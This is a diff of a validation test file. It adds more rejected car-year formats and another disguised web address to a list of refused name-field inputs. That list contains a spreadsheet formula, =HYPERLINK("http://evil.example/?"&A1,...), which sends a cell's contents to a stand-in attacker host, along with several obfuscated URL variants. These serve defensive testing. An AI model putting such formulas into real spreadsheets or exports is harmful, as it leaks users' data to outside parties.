@@ -319,12 +319,13 @@ describe('the years of a car', () => {
     expect(rule?.safeParse(typed).data).toBe(rewritten);
   });
 
-  it.each(['22', '2223', '22/3', '2022/3', '2022/2345', '1850/1851', '2022/2023/2024', 'novo'])(
-    '"%s" are refused',
-    (typed) => {
-      expect(rule?.safeParse(typed).success).toBe(false);
-    },
-  );
+  it.each([
+    ...['22', '2223', '22/3', '2022/3', '2022/2345', '1850/1851', '2022/2023/2024', 'novo'],
+    // A month, or years of which no car is.
+    ...['03/2019', '12-2022', '05/19', '2019/01', '50/51', '23/22'],
+  ])('"%s" are refused', (typed) => {
+    expect(rule?.safeParse(typed).success).toBe(false);
+  });
 });
 
 describe('an offer of a car needs', () => {
@@ -597,6 +598,7 @@ describe('a name in any form', () => {
       'www.evil.example',
       'Ana WWW.x',
       'ｗｗｗ．x.example',
+      'www。evil。example',
     ],
     ...[
       '=HYPERLINK("http://evil.example/?"&A1,"ver")',
